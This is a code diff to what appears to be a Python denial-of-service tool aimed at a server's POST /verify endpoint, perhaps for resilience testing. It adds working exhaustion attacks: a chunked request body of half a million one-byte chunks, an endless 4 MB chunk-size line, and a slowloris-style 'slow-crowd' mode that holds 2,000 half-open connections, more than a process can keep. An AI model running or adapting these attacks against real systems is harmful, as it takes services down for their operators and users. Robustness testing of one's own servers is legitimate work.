@@ -27,6 +27,7 @@ from urllib.parse import urlencode
 CORE = 0.5
 CONNECTIONS = 16
 SLOW = 300
+CROWD = 2_000  # more than a process keeps
 PATIENCE = 30.0
 CRLF = b"\r\n"
 
@@ -296,6 +297,13 @@ def many_parts(target: Target) -> Iterator[bytes]:
     return for_ever(*(target.request("POST", "/verify", headers, body) for body in (many, endless, heads)))
 
 
+@attack("tiny-chunks")
+def tiny_chunks(target: Target) -> Iterator[bytes]:
+    """A body in chunks of one byte, and one in a line without an end."""
+    begin = target.request("POST", "/verify", {**form()[0], "Transfer-Encoding": "chunked"})
+    return for_ever(begin + b"1\r\na\r\n" * 500_000 + b"0\r\n\r\n", begin + b"1;" + b"a" * 4_000_000)
+
+
 @attack("large-headers")
 def large_headers(target: Target) -> Iterator[bytes]:
     """Long addresses, headers and cookies, and headers that are lists of thousands."""
@@ -429,12 +437,12 @@ SLOW_KINDS = {
 }
 
 
-def be_slow(target: Target, seconds: float, kinds: list[SlowKind]) -> Budget:
-    """Hold three hundred connections; who is closed comes back."""
+def be_slow(target: Target, seconds: float, kinds: list[SlowKind], count: int = SLOW) -> Budget:
+    """Hold so many connections; who is closed comes back."""
     budget, open_ones = Budget(seconds), {}
     while not budget.is_over:
         turn = time.monotonic()
-        for number in range(SLOW):
+        for number in range(count):
             kind = kinds[number % len(kinds)]
             with suppress(OSError):
                 if number not in open_ones:
@@ -466,6 +474,7 @@ def _go_on(connection: socket.socket, kind: SlowKind) -> bool:
 
 for _name, _kind in SLOW_KINDS.items():
     ATTACKS[_name] = lambda target, seconds, kind=_kind: be_slow(target, seconds, [kind])
+ATTACKS["slow-crowd"] = lambda target, seconds: be_slow(target, seconds, [SLOW_KINDS["slow-headers"]], CROWD)
 ATTACKS["slow-all"] = lambda target, seconds: be_slow(target, seconds, list(SLOW_KINDS.values()))
 
 
